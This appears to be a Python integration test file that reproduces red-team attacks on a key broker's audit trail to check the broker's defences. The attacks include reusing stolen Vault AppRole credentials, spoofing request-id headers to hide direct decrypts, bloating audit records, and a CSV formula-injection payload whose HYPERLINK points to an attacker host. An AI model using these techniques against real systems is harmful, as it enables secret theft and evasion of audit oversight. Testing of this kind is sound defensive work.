"""Red-team findings 3a, 3b, 6 (audit part), 7, 8 and 10: attacks on the audit trail itself.

Adapted from the red team's tests (wt-review, tests/integration/test_redteam.py): each states
one attack in its docstring and asserts what a sound broker does. Plus the siblings found
while fixing them: the broker's own upkeep is claimed by its records (not by a header), a
Vault header outside the request-id syntax is not shown as a request id.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import time
import urllib.error
import urllib.request
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

from broker.audit import merge
from broker.devstack.stack import DevStack
from broker.vaultops.policy import Mounts
from tests.integration.conftest import https
from tests.integration.keyops import b64, create_key, unique
from tests.integration.policyops import identity

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def vault_call(
    stack: DevStack, path: str, *, token: str | None, body: Any = None, request_id: str | None = None
) -> tuple[int, dict[str, Any]]:
    """One request straight to Vault (around the broker), as an attacker holding ``token`` would make it."""
    headers = {"Content-Type": "application/json"}
    if token is not None:
        headers["X-Vault-Token"] = token
    if request_id is not None:
        headers["X-Request-Id"] = request_id
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(
        f"{stack.vault_addr}/v1/{path}", data=data, headers=headers, method="POST" if data else "GET"
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as resp:
            return resp.status, json.loads(resp.read() or b"{}")
    except urllib.error.HTTPError as exc:
        with exc:  # an error body cut short must not leave its socket to the collector
            return exc.code, json.loads(exc.read() or b"{}")


def stolen_approle_token(stack: DevStack) -> str:
    """Log in with the broker's own AppRole credentials, as someone who read them from the host would."""
    approle = stack.layout.approle_dir
    status, body = vault_call(
        stack,
        "auth/approle/login",
        token=None,
        body={
            "role_id": (approle / "role-id").read_text().strip(),
            "secret_id": (approle / "secret-id").read_text().strip(),
        },
    )
    assert status == 200, body
    return str(body["auth"]["client_token"])


def transit_ciphertext(kb1: str) -> str:
    """The transit ciphertext inside a broker ``kb1:<key>:<version>:<payload>`` of a Vault key."""
    _, _, version, payload = kb1.split(":")
    raw = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
    return f"vault:v{version}:{b64(raw)}"


def vault_key_with_ciphertext(stack: DevStack) -> tuple[str, str]:
    name = create_key(stack, "vault")
    reply = https(stack, f"/v1/keys/{name}/encrypt", body={"plaintext": b64(b"card 4111")})
    assert reply.status == 200, reply.body
    return name, str(reply.json()["ciphertext"])


def audit_events(stack: DevStack, query: str) -> list[dict[str, Any]]:
    reply = https(stack, f"/v1/audit/events?limit=10000&{query}")
    assert reply.status == 200, reply.body
    events: list[dict[str, Any]] = reply.json()["events"]
    return events


def bypass_rows_for(stack: DevStack, key: str) -> list[dict[str, Any]]:
    path = f"{Mounts().transit}/decrypt/{key}"
    return [e for e in audit_events(stack, "source=bypass") if e.get("path") == path]


# -- 3. bypass detection with the broker's AppRole credentials ---------------------------------


def test_stolen_approle_decrypt_with_a_background_request_id_is_flagged_as_bypass(stack: DevStack) -> None:
    """Attack: with the broker's AppRole, decrypt through transit directly and send
    ``X-Request-Id: kb-bg-<anything>``. The merge once classed any broker-identity entry with that
    prefix as the broker's upkeep, hidden from ``source=bypass``. A transit decrypt no broker record
    claims must be flagged whatever request id its caller chose.
    """
    token = stolen_approle_token(stack)
    control, kb1 = vault_key_with_ciphertext(stack)
    status, body = vault_call(
        stack,
        f"{Mounts().transit}/decrypt/{control}",
        token=token,
        body={"ciphertext": transit_ciphertext(kb1)},
        request_id=f"exfil-{uuid.uuid4()}",
    )
    assert status == 200, body
    assert bypass_rows_for(stack, control), "control: an ordinary direct decrypt is not flagged either"
    key, kb1 = vault_key_with_ciphertext(stack)
    status, body = vault_call(
        stack,
        f"{Mounts().transit}/decrypt/{key}",
        token=token,
        body={"ciphertext": transit_ciphertext(kb1)},
        request_id=f"kb-bg-{uuid.uuid4()}",
    )
    assert status == 200, body  # the attacker has the plaintext now
    assert base64.b64decode(body["data"]["plaintext"]) == b"card 4111"
    rows = bypass_rows_for(stack, key)
    assert [r["kind"] for r in rows] == ["unexplained"], rows


def test_stolen_approle_decrypt_reusing_a_broker_request_id_is_flagged_as_bypass(stack: DevStack) -> None:
    """Attack: send a broker answer's ``X-Broker-Request-Id`` as ``X-Request-Id`` on a direct decrypt
    with the broker's AppRole. The merge once joined any broker-identity entry carrying a record's
    request id to that record, hiding the decrypt inside an unrelated health check's record. Joins
    rest on the Vault request ids the broker noted from Vault's answers, never on the header.
    """
    key, kb1 = vault_key_with_ciphertext(stack)
    health = https(stack, "/v1/sys/health", who="app")
    broker_id = health.headers["X-Broker-Request-Id"]
    token = stolen_approle_token(stack)
    status, body = vault_call(
        stack,
        f"{Mounts().transit}/decrypt/{key}",
        token=token,
        body={"ciphertext": transit_ciphertext(kb1)},
        request_id=broker_id,
    )
    assert status == 200, body
    health_record = [e for e in audit_events(stack, "source=broker") if e.get("request_id") == broker_id]
    assert len(health_record) == 1, health_record
    hidden = [v for v in health_record[0].get("vault") or [] if key in str(v.get("path"))]
    assert not hidden, f"the direct decrypt was attached to the health check's record as evidence: {hidden}"
    assert bypass_rows_for(stack, key), "the direct decrypt is missing from audit events?source=bypass"


def test_the_brokers_own_vault_upkeep_is_claimed_by_its_background_records(stack: DevStack) -> None:
    """Sibling of 3a: with the ``kb-bg-`` prefix meaning nothing, the broker's own Vault calls outside
    requests (here: anchoring audit checkpoints in KV) must be claimed by ``background`` records
    that list Vault's request ids, so they neither look unexplained nor hide behind a header.
    """
    # This broker's anchor only: other brokers the suite starts keep their own logs.
    anchor = f"{Mounts().kv}/data/audit/anchor-{https(stack, '/v1/audit/verify').json()['node']}"
    for _ in range(5):  # a checkpoint and its anchor come every few seconds once records are written
        https(stack, f"/v1/keys/{unique('nokey')}", who="admin")
        time.sleep(3)
    deadline = time.monotonic() + 40
    claimed: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        upkeep = [r for r in audit_events(stack, "source=broker") if r.get("kind") == "background"]
        claimed = [v for r in upkeep for v in r.get("vault") or [] if v.get("path") == anchor]
        if claimed:
            break
        time.sleep(2)
    assert claimed, "no background record claims the broker's anchor writes"
    cutoff = merge.parse_time(max(str(v["time"]) for v in claimed))
    stray = [
        r
        for r in audit_events(stack, "source=vault")
        # (the broker sends kb-bg- ids outside requests; other tests use its AppRole on this path too)
        if r.get("path") == anchor
        and str(r.get("request_id")).startswith("kb-bg-")
        and merge.time_of(r) <= cutoff
    ]
    assert not stray, f"the broker's own anchor writes show as unclaimed Vault rows: {stray[:3]}"


# -- 6 (audit part). a zero-role caller cannot make megabyte records -----------------------------


def test_a_caller_whose_body_is_read_cannot_make_megabyte_audit_records(stack: DevStack) -> None:
    """Attack (disk exhaustion): a 900 KB ``backend`` string in a body the broker does read (the
    caller may create keys; a zero-role caller is refused before its body is read, see
    test_redteam_policy.py). The 400's detail and every free-text field of the record are capped,
    so the record stays small whatever the caller sends.
    """
    client_id = f"redteam-big-{uuid.uuid4().hex}"
    reply = https(
        stack,
        "/v1/keys",
        headers={"X-Request-Id": client_id},
        body={"name": unique("t"), "backend": "A" * 900_000, "environment": "dev"},
    )
    assert reply.status == 400, reply.body
    lines = [
        line
        for path in sorted(stack.layout.audit_dir.glob("audit-*.jsonl"))
        for line in path.read_bytes().splitlines()
        if client_id.encode() in line
    ]
    assert len(lines) == 1, len(lines)
    assert len(lines[0]) < 16_384, f"one request wrote a {len(lines[0])}-byte audit record"


# -- 7. a batch whose items are all denied -------------------------------------------------------


def test_a_batch_whose_items_are_all_denied_shows_among_the_denials(stack: DevStack) -> None:
    """Attack (hiding from the auditor): decrypt attempts on a key you have no right to, sent as a
    batch. Every item is refused but the request answers 200; its record must still count as a
    denial (outcome from the decisions, not the HTTP status), with the items' denied count.
    """
    stem, _ = identity(stack, unique("prober"), "app")
    key, kb1 = vault_key_with_ciphertext(stack)
    reply = https(stack, f"/v1/keys/{key}/decrypt", who=stem, body={"batch": [{"ciphertext": kb1}] * 3})
    assert reply.status in (200, 403), reply.body
    if reply.status == 200:
        assert all(item["error"]["status"] == 403 for item in reply.json()["batch"]), reply.body
    broker_id = reply.headers["X-Broker-Request-Id"]
    denied = [e for e in audit_events(stack, f"outcome=denied&key={key}") if e.get("request_id") == broker_id]
    assert denied, f"three denied decrypts of {key} are not among audit events?outcome=denied"
    if reply.status == 200:
        assert (denied[0]["items"], denied[0]["items_denied"]) == (3, 3)


# -- 8. a rewrap onto another key ----------------------------------------------------------------


def test_a_rewrap_to_another_key_is_found_under_the_target_key(stack: DevStack) -> None:
    """Attack (audit gap): rewrap a ciphertext of key A onto key B. The record named only A, so
    ``audit events?key=B`` never showed that data was just encrypted under B. A record names every
    key it used (``keys``) and the key filter matches any of them.
    """
    source, kb1 = vault_key_with_ciphertext(stack)
    target = create_key(stack, "kms")
    reply = https(stack, f"/v1/keys/{source}/rewrap", body={"ciphertext": kb1, "to_key": target})
    assert reply.status == 200, reply.body
    assert reply.json()["key"] == target
    broker_id = reply.headers["X-Broker-Request-Id"]
    under_target = [e for e in audit_events(stack, f"key={target}") if e.get("request_id") == broker_id]
    assert under_target, f"the rewrap onto {target} is not among audit events?key={target}"
    assert under_target[0]["keys"] == [source, target]


# -- 10. the auditor's CSV export ----------------------------------------------------------------


def test_the_bypass_csv_export_carries_no_spreadsheet_formula(stack: DevStack) -> None:
    """Attack: with no Vault token at all, send Vault a request whose ``X-Request-Id`` and path are
    spreadsheet formulas. The bypass row's CSV cells must not start with = + - @ TAB CR, and the
    header, which is not a request id the broker could have made, is not shown as one.
    """
    marker = uuid.uuid4().hex[:8]
    formula = f'=HYPERLINK("http://attacker.invalid/{marker}","open")'
    status, _ = vault_call(
        stack,
        f"{Mounts().transit}/encrypt/=2+5{marker}",
        token=None,
        body={"plaintext": "eA=="},
        request_id=formula,
    )
    assert status in (400, 403), status
    rows = [e for e in audit_events(stack, "source=bypass") if marker in json.dumps(e)]
    assert rows, "the unauthenticated Vault request is not in the bypass view at all"
    assert all(r.get("request_id") is None for r in rows), rows
    cells = [cell for line in csv.reader(io.StringIO(merge.to_csv(rows))) for cell in line]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not dangerous, f"CSV cells an auditor's spreadsheet would evaluate: {dangerous}"
    assert f"'{Mounts().transit}" not in cells  # only cells that need it are changed


def test_the_brokers_own_traffic_leaves_no_unexplained_vault_rows(stack: DevStack) -> None:
    """With joins only through what the broker noted, its own calls must all still be claimed:
    calls answered with an id (encrypt, rotate), calls answered without one (a missing key's
    KV read answers 404 with no request id: claimed by status, sent id and path in the record's
    window) and its upkeep meanwhile (claimed by the next background record).
    """
    started = datetime.now(UTC)
    name = create_key(stack, "vault")
    assert https(stack, f"/v1/keys/{name}/encrypt", body={"plaintext": b64(b"m")}).status == 200
    assert https(stack, f"/v1/keys/{name}/rotate", body={}).status == 200
    missing = https(stack, f"/v1/keys/{unique('missing')}")
    assert missing.status == 404, missing.body
    finished = datetime.now(UTC)
    deadline = time.monotonic() + 40
    while time.monotonic() < deadline:  # wait for a background record written after the calls
        upkeep = [
            r
            for r in audit_events(stack, "source=broker")
            if r.get("kind") == "background" and merge.time_of(r) > finished + timedelta(seconds=1)
        ]
        if upkeep:
            break
        time.sleep(2)
    stray = [
        r
        for r in audit_events(stack, "source=bypass")
        if r.get("unexplained") and started <= merge.time_of(r) <= finished
    ]
    assert not stray, f"the broker's own Vault calls show as unexplained: {stray[:3]}"


def test_a_zero_role_batch_with_long_contexts_cannot_make_large_audit_records(stack: DevStack) -> None:
    """Sibling of 6: a caller bound to no role sends a batch to an existing key, each item with its
    own context of 32 fields with 128-character names. Every item is denied, but each item's
    context was kept in the record (names verbatim, values HMAC'd): about 650 KB per request.
    Contexts are kept within a budget, the rest counted.
    """
    stem, _ = identity(stack, unique("nobody"), "app")
    key, kb1 = vault_key_with_ciphertext(stack)
    batch = [
        {"ciphertext": kb1, "context": {f"{i:03d}{f:02d}".ljust(128, "n"): "v" for f in range(32)}}
        for i in range(100)
    ]
    reply = https(stack, f"/v1/keys/{key}/decrypt", who=stem, body={"batch": batch})
    assert reply.status in (200, 403), reply.body
    broker_id = reply.headers["X-Broker-Request-Id"]
    lines = [
        line
        for path in sorted(stack.layout.audit_dir.glob("audit-*.jsonl"))
        for line in path.read_bytes().splitlines()
        if broker_id.encode() in line
    ]
    assert len(lines) == 1, len(lines)
    assert len(lines[0]) < 64 * 1024, f"one zero-role request wrote a {len(lines[0])}-byte audit record"
    record = json.loads(lines[0])
    if "contexts" in record:  # (items refused before their contexts are read record none at all)
        assert record["contexts_omitted"] > 0
